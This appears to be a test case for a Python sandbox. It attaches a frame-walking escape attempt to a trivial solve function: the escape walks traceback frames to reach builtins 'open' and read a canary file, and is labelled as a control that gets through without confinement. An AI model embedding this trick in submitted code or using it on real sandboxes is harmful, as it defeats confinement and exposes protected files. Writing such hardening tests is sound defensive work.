# ruff: noqa
# mypy: ignore-errors
# class: builtins
# control: gets through without confinement
try:
    raise ValueError
except ValueError as error:
    frame = error.__traceback__.tb_frame
    while frame:
        attempt(lambda: print(frame.f_builtins["open"](CANARY).read()))
        frame = frame.f_back


def solve(n):
    return n
